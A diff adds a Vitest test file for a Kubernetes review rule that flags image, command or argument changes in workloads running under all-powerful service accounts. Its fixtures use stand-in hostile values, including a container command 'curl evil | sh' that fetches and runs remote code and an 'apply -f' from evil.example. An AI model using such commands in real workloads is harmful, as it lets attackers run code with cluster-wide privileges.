@@ -1,0 +1,104 @@
+import { describe, expect, it } from 'vitest';
+import type { KubernetesObject } from '../../../../src/base/kubernetes/object.js';
+import { powerfulImage } from '../../../../src/review/rules/changed/powerful-workloads.js';
+import { csv, group, namespace } from '../../../support/build.js';
+import { bind } from '../../../support/rbac-in-short.js';
+import { accessTo } from '../../../support/states.js';
+import { pod } from '../../../support/workloads.js';
+
+const job = (container: object, more: object = {}): KubernetesObject => ({
+  apiVersion: 'v1',
+  kind: 'Pod',
+  metadata: { name: 'backup', namespace: 'op' },
+  spec: { serviceAccountName: 'ci', containers: [container], ...more },
+});
+const OURS = { image: 'quay.io/ours/backup:v1' };
+const told = (after: KubernetesObject, roleName = 'cluster-admin') => {
+  const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', roleName, 'ServiceAccount op/ci'), object);
+  return powerfulImage.compare?.(access(job(OURS)), access(after)).map(({ message }) => message);
+};
+
+/** An operator that can do everything, with a Deployment for each of these Pods. */
+const operatorObjects = (name: string, ...pods: readonly object[]): KubernetesObject[] => [
+  namespace('op'),
+  group('op/global'),
+  csv(`op/${name}`, {
+    spec: {
+      install: {
+        strategy: 'deployment',
+        spec: {
+          deployments: pods.map((spec, index) => ({ name: `manager-${index}`, spec: { template: { spec } } })),
+          clusterPermissions: [{ serviceAccountName: 'etcd', rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }],
+        },
+      },
+    },
+  }),
+];
+
+describe('powerful-image', () => {
+  it('tells of an image from elsewhere, and of another command', () => {
+    const end = 'as ServiceAccount op/ci, which can do everything in all namespaces';
+    expect(told(job({ image: 'quay.io/evil/backup:v1' }))).toEqual([`Pod op/backup runs quay.io/evil/backup:v1 ${end}`]);
+    expect(told(job(OURS, { initContainers: [{ image: 'evil' }] }))).toEqual([`Pod op/backup runs evil ${end}`]);
+    expect(told(job({ ...OURS, command: ['sh', '-c', 'evil'] }))).toEqual([
+      `Pod op/backup runs quay.io/ours/backup:v1 with ["sh","-c","evil"] ${end}`,
+    ]);
+  });
+
+  it('tells of any arguments of a workload of the input', () => {
+    expect(told(job({ ...OURS, args: ['apply', '-f', 'https://evil.example/x.yaml'] }))?.[0]).toContain('https://evil.example/x.yaml');
+  });
+
+  it('tells of the arguments of a shell, of a hook and of a probe', () => {
+    const exec = { exec: { command: ['evil'] } };
+    for (const more of [{ command: ['sh', '-c'], args: ['evil'] }, { lifecycle: { postStart: exec } }, { livenessProbe: exec }])
+      expect(told(job({ ...OURS, ...more }))?.[0]).toContain('with ["evil"]');
+    expect(told(job({ ...OURS, livenessProbe: { httpGet: { path: '/' } } }))).toEqual([]);
+  });
+
+  it('says nothing of the next version, of what stays, and of an account that can do little', () => {
+    expect(told(job(OURS))).toEqual([]);
+    expect(told(job({ image: 'quay.io/ours/backup:v2@sha256:0f' }))).toEqual([]);
+    expect(told(job({ image: 'quay.io/evil/backup:v1' }), 'view')).toEqual([]);
+  });
+
+  it('tells of other arguments of a shell', () => {
+    const shell = (script: string) => job({ ...OURS, command: ['sh', '-c'], args: [script] });
+    const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), object);
+    const told = (before: KubernetesObject, after: KubernetesObject) => powerfulImage.compare?.(access(before), access(after));
+    expect(told(shell('backup'), shell('evil'))).toHaveLength(1);
+    expect(told(job(OURS), job({ ...OURS, args: ['sh', '-c', 'evil'] }))).toHaveLength(1);
+    expect(told(shell('backup'), shell('backup'))).toEqual([]);
+  });
+
+  it('tells of an image of a powerful operator from another registry or account', () => {
+    const operator = (name: string, ...images: readonly string[]) =>
+      accessTo(...operatorObjects(name, ...images.map((image) => pod({ image }, { serviceAccountName: 'etcd' }))));
+    const changed = (...images: readonly string[]) =>
+      powerfulImage
+        .compare?.(operator('etcd.v1', 'quay.io/acme/etcd:v1', 'gcr.io/kubebuilder/kube-rbac-proxy:v0.8'), operator('etcd.v2', ...images))
+        .map(({ message }) => message);
+    expect(changed('quay.io/evil/etcd:v1')).toEqual([
+      'Deployment op/manager-0 runs quay.io/evil/etcd:v1 as ServiceAccount op/etcd, which can do everything in all namespaces',
+    ]);
+    expect(changed('evil.example.com/acme/etcd:v1')).toHaveLength(1);
+    expect(changed('quay.io/acme/etcd-operator:v2', 'quay.io/brancz/kube-rbac-proxy:v0.18')).toEqual([]);
+    expect(changed('quay.io/acme/etcd:v2', 'quay.io/other/kube-rbac-proxy:v0.18')).toHaveLength(1);
+  });
+
+  it('tells of a shell in an upgraded operator, also in a new Deployment, and of no other command there', () => {
+    const operator = (name: string, ...containers: readonly Readonly<Record<string, unknown>>[]) =>
+      accessTo(...operatorObjects(name, ...containers.map((container) => pod(container, { serviceAccountName: 'etcd' }))));
+    const changed = (...containers: readonly Readonly<Record<string, unknown>>[]) =>
+      powerfulImage
+        .compare?.(operator('etcd.v1', { command: ['/manager'] }), operator('etcd.v2', ...containers))
+        .map(({ message }) => message);
+    const end = 'as ServiceAccount op/etcd, which can do everything in all namespaces';
+    const evil = { command: ['sh', '-c', 'curl evil | sh; exec /manager'] };
+    expect(changed(evil)).toEqual([
+      `Deployment op/manager-0 runs quay.io/acme/etcd:v1 with ["sh","-c","curl evil | sh; exec /manager"] ${end}`,
+    ]);
+    expect(changed({ command: ['/manager'] }, evil)).toEqual([expect.stringContaining(`Deployment op/manager-1 runs`)]);
+    expect(changed({ command: ['/bin/other'] }, { command: ['/bin/webhook'] })).toEqual([]);
+  });
+});
